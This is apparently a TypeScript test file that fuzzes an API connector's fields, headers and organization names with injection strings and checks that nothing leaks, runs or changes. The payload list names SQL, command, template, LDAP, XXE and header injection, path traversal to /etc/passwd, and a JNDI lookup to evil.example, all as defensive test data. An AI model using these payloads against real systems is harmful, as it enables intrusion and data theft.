import { AnyErrorEnvelope, contract, operations, routeOf } from "@layers/contracts";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { z } from "zod";
import { startTarget, type Target } from "../../src/attacks/target.ts";
import { expectSafeHeaders } from "../../src/attacks/unharmed.ts";
import { openDatabase, readDatabase } from "../../src/database.ts";
import { enterpriseInputs } from "../../src/enterprise.ts";
import { send } from "../../src/http.ts";
import { withoutPaths } from "../../src/log-lines.ts";
import { callOver, operationOf, transports } from "../../src/transports.ts";

/** A mark to find the payload again; no name of a field may hold its `~`, so it is never repeated as one. */
const mark = "layers~MARK";
/** Each would do harm in some interpreter. */
const payloads = [
  "' OR '1'='1",
  "1;DROP TABLE bindings;--",
  '"; delete from "attempts" where 1=1; --',
  "') UNION SELECT digest FROM apiKeySecrets--",
  "x' AND randomblob(1000000000) AND '1",
  "\u0000",
  "\u0024{7*7}",
  "{{7*7}}",
  "<%= 7*7 %>",
  "#{7*7}",
  "$(id)",
  "`id`",
  "|id",
  "; cat /etc/passwd",
  "%x%n%s%p",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "file:///etc/passwd",
  "<img src=x onerror=alert(1)>",
  "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
  "*)(uid=*))(|(uid=*",
  "\r\nSet-Cookie: x=1",
  "\u001b[2J",
  "\u2028\u2029",
  "__proto__",
  "constructor.prototype",
  "\u0024{jndi:ldap://evil.example/a}",
  "=cmd|' /C calc'!A0",
  "null",
  "NaN",
  "true",
].map((payload) => payload + mark);

let target: Target;
beforeAll(async () => {
  target = await startTarget();
});
afterAll(() => target.connector[Symbol.asyncDispose]());

/** Every text that an operation takes, lists and names inside of it too. */
const fields = [...operations(contract)].flatMap(([name, operation]) =>
  Object.keys(operation.input.shape).map((field) => [name, field] as const),
);

/** What an operation needs besides, so that the payload is what it is refused for. */
function rest(name: string): Record<string, unknown> {
  if (name === "github.installUrl") return { returnUrl: "https://app.partner.example/cb" };
  if (name === "github.registerInstallation") return { ...target.proof };
  const inputs: Record<string, Record<string, unknown>> = enterpriseInputs;
  return inputs[name] ?? {};
}

/** The payload as a text and inside of something, where REST can say that. */
function shapes(name: string, field: string, payload: string): unknown[] {
  const { inputIn, parameters } = routeOf(operationOf(name));
  const isInBody = inputIn === "body" && !parameters.includes(field);
  return isInBody ? [payload, { [payload]: [payload] }] : [payload];
}

const described = `${fields.length} fields × ${payloads.length} payloads × ${transports.length} transports`;

describe(`A217: what is code elsewhere is text here (${described})`, () => {
  test.each(fields)("%s takes it as its %s", async (name, field) => {
    const { connector, victim, attacker } = target;
    const { key } = name === "github.registerInstallation" ? attacker : victim;
    const before = readDatabase(connector);
    for (const payload of payloads)
      for (const shape of shapes(name, field, payload))
        for (const transport of transports) {
          const input = { ...rest(name), [field]: shape };
          const answer = await callOver(transport, connector, { name, key, input });
          // A path that could mean another one never gets as far as the operation.
          const framed = routeOf(operationOf(name)).parameters.includes(field) ? [400] : [];
          const statuses = [200, 403, 404, 409, 422, ...framed];
          expect(statuses, `${transport} ${payload}`).toContain(answer.status);
          expectSafeHeaders(answer);
          // Who gives a state of his own gets it back.
          if (answer.status === 200) continue;
          AnyErrorEnvelope.parse(answer.body);
          expect(answer.text).not.toContain(mark);
        }
    const after = readDatabase(connector);
    // A call that is served may start an attempt or have GitHub mint a token.
    const untouched = { attempts: [], tokens: [] };
    expect({ ...after, ...untouched }).toEqual({ ...before, ...untouched });
    expect(JSON.stringify(after)).not.toContain(mark);
    expect((await send("GET /readyz", connector.url)).status).toBe(200);
  });

  test("there are at least three hundred of them", () => {
    expect(fields.length * payloads.length).toBeGreaterThanOrEqual(300);
  });

  test("the database is whole, and no line of the log holds any of it", () => {
    const { connector } = target;
    const database = openDatabase(connector);
    expect(database.pragma("integrity_check", { simple: true })).toBe("ok");
    expect(database.pragma("foreign_key_check")).toEqual([]);
    database.close();
    expect(withoutPaths(connector.logLines)).not.toContain(mark);
  });

  test("as a header that is stored nowhere", async () => {
    const { connector, victim } = target;
    for (const payload of payloads) {
      const value = payload.replace(/[^\x20-\x7e]/g, "");
      const headers = { "idempotency-key": value, "user-agent": value, referer: value };
      const body = { installationId: 1, state: "a-state-that-nobody-has" };
      const line = "POST /v1/github/installation";
      const answer = await send(line, connector.url, { key: victim.key, body, headers });
      expect(answer.status).toBe(422);
      expect(answer.text).not.toContain(mark);
    }
    expect(JSON.stringify(readDatabase(connector))).not.toContain(mark);
  });

  test("as what an operator names an organization or a key, literally", async () => {
    const { connector } = target;
    for (const payload of payloads) {
      const printable = payload.replaceAll(/[^\x20-\x7e]/g, "");
      const { id } = await connector.operator.createOrganization(printable);
      const { key } = await connector.addPartner({ organizationId: id, name: printable });
      const { body } = await send("GET /v1/whoami", connector.url, { key });
      expect(z.object({ organizationName: z.string() }).parse(body).organizationName).toBe(
        printable.trim(),
      );
    }
  });
});
